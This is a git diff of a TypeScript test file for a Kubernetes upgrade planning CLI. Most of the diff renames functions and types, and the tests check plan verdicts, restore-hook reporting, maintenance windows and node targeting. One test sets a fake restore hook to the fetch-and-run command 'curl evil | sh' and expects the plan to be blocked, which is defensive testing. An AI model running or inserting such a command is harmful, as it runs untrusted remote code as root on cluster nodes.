@@ -2,11 +2,11 @@ import { expect } from 'chai';
 import { paintFor, plain } from '../../src/cli/paint.ts';
 import { plan } from '../../src/cli/plan.ts';
 import { toJson } from '../../src/cli/plan/json.ts';
-import { look } from '../../src/cli/plan/look.ts';
-import { isNotLookedAt, NO_KEY, setApart, withoutKey } from '../../src/cli/plan/not-looked-at.ts';
+import { collectPlan } from '../../src/cli/plan/collect.ts';
+import { isUnchecked, NO_KEY, withoutUnchecked, remoteWithoutKey } from '../../src/cli/plan/unchecked.ts';
 import { PLAN_EXIT, verdictOf, type PlanReport } from '../../src/cli/plan/report.ts';
-import { show, wordOf } from '../../src/cli/plan/show.ts';
-import { isInside, planInputs, type PlanWorld, type Reach } from '../../src/cli/plan/world.ts';
+import { planText, wordOf } from '../../src/cli/plan/text.ts';
+import { isClusterAddress, planInputs, type PlanClients, type PlanAccess } from '../../src/cli/plan/clients.ts';
 import { readSettings } from '../../src/cluster/read.ts';
 import { hostHealth } from '../../src/steps/adapters/host-health.ts';
 import { kubeadm } from '../../src/steps/adapters/kubeadm.ts';
@@ -35,7 +35,7 @@ import { FakeRehearsal } from '../support/fakes/rehearsal.ts';
 import { FakeHostKeys, FakeRemote } from '../support/fakes/remote.ts';
 import { expectGolden } from '../support/golden.ts';
 
-const NOBODY: Reach = {
+const NOBODY: PlanAccess = {
   sshKey: undefined,
   knownHosts: undefined,
   prometheusUrl: undefined,
@@ -79,7 +79,7 @@ describe('npm run plan', () => {
     fakes.packages.offer('1.34', ['1.34.9', '1.34.10']);
   });
 
-  const world = (): PlanWorld => {
+  const clients = (): PlanClients => {
     const { cluster, packages, clock, remote } = fakes;
     return {
       ...{ cluster, alertScope: { severities: [], ignore: [], gateLabel: 'upgrade_gate' }, rehearsal: fakes.rehearsal },
@@ -108,12 +108,12 @@ describe('npm run plan', () => {
     };
   };
   const CANARY = 'workers: { canary: { labels: [node-restriction.kubernetes.io/pool=canary] } }\n';
-  const report = (yaml = CANARY, asked: Record<string, string> = {}, through = world()): Promise<PlanReport> => {
+  const report = (yaml = CANARY, asked: Record<string, string> = {}, through = clients()): Promise<PlanReport> => {
     const settings = settingsWith(yaml);
-    return look(through, planInputs(settings, asked, NOBODY), settings, silent);
+    return collectPlan(through, planInputs(settings, asked, NOBODY), settings, silent);
   };
   const golden = async (name: string, seen: PlanReport): Promise<void> => {
-    expectGolden(new URL(`golden/${name}.txt`, import.meta.url), show(seen, plain));
+    expectGolden(new URL(`golden/${name}.txt`, import.meta.url), planText(seen, plain));
     expectGolden(new URL(`golden/${name}.json`, import.meta.url), `${JSON.stringify(toJson(seen), null, 2)}\n`);
     expect(fakes.cluster.writes, 'a plan changes nothing').to.deep.equal([]);
   };
@@ -130,14 +130,14 @@ describe('npm run plan', () => {
     const hook = `controlPlane: { restoreHook: { configMap: ${HOOK_CONFIG_MAP}, sha256: '${sha256}' } }\n`;
     const seen = await report(`${CANARY}${hook}`);
     expect(verdictOf(seen)).to.equal('clear');
-    expect(show(seen, plain)).to.include(
+    expect(planText(seen, plain)).to.include(
       `\nRestore hook\n  on: ${HOOK_CONFIG_MAP}, SHA-256 ${sha256}, runs as root on each control-plane node\n`,
     );
     expect(toJson(seen)).to.deep.include({
       restoreHook: { configMap: HOOK_CONFIG_MAP, sha256 },
       unusedRestoreHook: null,
     });
-    expect(show(seen, plain)).not.to.include('Restore hook\n  off');
+    expect(planText(seen, plain)).not.to.include('Restore hook\n  off');
     fakes.hook.set('curl evil | sh');
     expect(verdictOf(await report(`${CANARY}${hook}`))).to.equal('blocked');
   });
@@ -146,7 +146,7 @@ describe('npm run plan', () => {
     fakes.hook.set('true\n');
     const seen = await report();
     expect(verdictOf(seen)).to.equal('clear');
-    expect(show(seen, plain)).to.include(
+    expect(planText(seen, plain)).to.include(
       `\nRestore hook\n  off: controlPlane.restoreHook is not set, so the script in ConfigMap ${HOOK_CONFIG_MAP} does not run. To run it, read it, then set controlPlane.restoreHook to this ConfigMap and to the SHA-256 that this prints: kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' | sha256sum\n`,
     );
     expect(toJson(seen)).to.deep.include({ restoreHook: null, unusedRestoreHook: HOOK_CONFIG_MAP });
@@ -190,21 +190,21 @@ describe('npm run plan', () => {
     for (const name of ['cp1', 'w1', 'w2'])
       fakes.cluster.alterNode(name, { kubelet: TO, ...(name === 'cp1' ? { staticPods: staticPodsAt(TO) } : {}) });
     const seen = await report(`policy: { minor: 'off' }\n`);
-    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)], seen.way]).to.deep.equal(['nothing-to-do', 0, undefined]);
+    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)], seen.upgrade]).to.deep.equal(['nothing-to-do', 0, undefined]);
     await golden('nothing-to-do', seen);
   });
 
   it('asks the repository where it has no key for the node, and logs in nowhere', async () => {
     const { clock } = fakes;
-    const through = world();
-    const keyless: PlanWorld = {
+    const through = clients();
+    const keyless: PlanClients = {
       ...through,
-      detect: { ...through.detect, remote: withoutKey },
-      gate: { ...through.gate, nodeFiles: nodeFiles({ remote: withoutKey, clock, log: silent.log }) },
+      detect: { ...through.detect, remote: remoteWithoutKey },
+      gate: { ...through.gate, nodeFiles: nodeFiles({ remote: remoteWithoutKey, clock, log: silent.log }) },
       preflight: {
         ...through.preflight,
-        hostHealth: hostHealth({ remote: withoutKey, clock, log: silent.log }, undefined),
-        kubeadm: kubeadm(withoutKey),
+        hostHealth: hostHealth({ remote: remoteWithoutKey, clock, log: silent.log }, undefined),
+        kubeadm: kubeadm(remoteWithoutKey),
       },
     };
     const seen = await report(CANARY, {}, keyless);
@@ -217,21 +217,21 @@ describe('npm run plan', () => {
     const windows = `nightly: { schedule: 0 1 * * 6 }\nmaintenance: { windows: [{ days: [sat], start: '01:00', end: '05:00' }] }\n`;
     const seen = await report(windows);
     expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)]]).to.deep.equal(['halted', 11]);
-    const text = show(seen, plain);
+    const text = planText(seen, plain);
     expect(text).to.include('Halted by the kill switch, ConfigMap k8s-upgrade/k8s-upgrade-killswitch (disk swap)');
     expect(text).to.include('A run that started now would pause. Outside the maintenance windows: the next one opens');
   });
 
   it('takes a target and the only nodes as a run does, and refuses what a run refuses', async () => {
     const only = await report(CANARY, { ONLY: 'cp1' });
-    expect(only.way?.steps.map(({ node }) => node.name)).to.deep.equal(['cp1']);
+    expect(only.upgrade?.steps.map(({ node }) => node.name)).to.deep.equal(['cp1']);
     const refused = await report(CANARY, { REQUESTED_TARGET: '1.36.0' });
     expect(verdictOf(refused)).to.equal('blocked');
     expect(refused.detection.reason).to.match(
       /^v1\.36\.0 is 2 minors ahead of v1\.34\.9; kubeadm moves at most 1 minor forward at a time\./,
     );
     const unknown = await report(CANARY, { ONLY: 'w9' });
-    expect(unknown.way?.orderProblems).to.deep.equal(['There is no node w9; the cluster has cp1, w1, w2.']);
+    expect(unknown.upgrade?.orderProblems).to.deep.equal(['There is no node w9; the cluster has cp1, w1, w2.']);
     expect(verdictOf(unknown)).to.equal('blocked');
     expect(formatKubeVersion(unknown.detection.running)).to.equal('1.34.9');
   });
@@ -240,7 +240,7 @@ describe('npm run plan', () => {
     fakes.rehearsal.forbidden.add('budgets');
     const seen = await report();
     expect(verdictOf(seen)).to.equal('blocked');
-    expect(show(seen, plain)).to.include('Unknown, and so refused: may not list poddisruptionbudgets.policy');
+    expect(planText(seen, plain)).to.include('Unknown, and so refused: may not list poddisruptionbudgets.policy');
   });
 });
 
@@ -251,24 +251,24 @@ describe('what a plan did not look at', () => {
   };
 
   it('is said, and stands in nobody’s way', () => {
-    expect(setApart(finding)).to.deep.equal({
+    expect(withoutUnchecked(finding)).to.deep.equal({
       ...finding,
       ...{ class: 'warning', found: 'not looked at: no SSH key given' },
       remedy: 'Give one with --ssh-key <file>; the run itself will look.',
     });
-    expect(isNotLookedAt(setApart(finding))).to.equal(true);
+    expect(isUnchecked(withoutUnchecked(finding))).to.equal(true);
   });
 
   it('is told from what could not be seen', () => {
     const unseen = { ...finding, found: 'no answer: connect ECONNREFUSED' };
-    expect(setApart(unseen)).to.equal(unseen);
+    expect(withoutUnchecked(unseen)).to.equal(unseen);
   });
 
   it('is whatever only the DNS of the cluster knows', () => {
     const inside = ['http://prometheus.monitoring.svc:9090', 'http://p.m.svc.cluster.local', 'http://prometheus'];
-    expect(inside.map(isInside)).to.deep.equal([true, true, true]);
+    expect(inside.map(isClusterAddress)).to.deep.equal([true, true, true]);
     const outside = ['https://prometheus.example.com/x', 'http://localhost:9090', 'http://10.0.0.1:9090', undefined];
-    expect(outside.map(isInside)).to.deep.equal([false, false, false, false]);
+    expect(outside.map(isClusterAddress)).to.deep.equal([false, false, false, false]);
   });
 
   it('leaves no host key behind in the cluster', async () => {
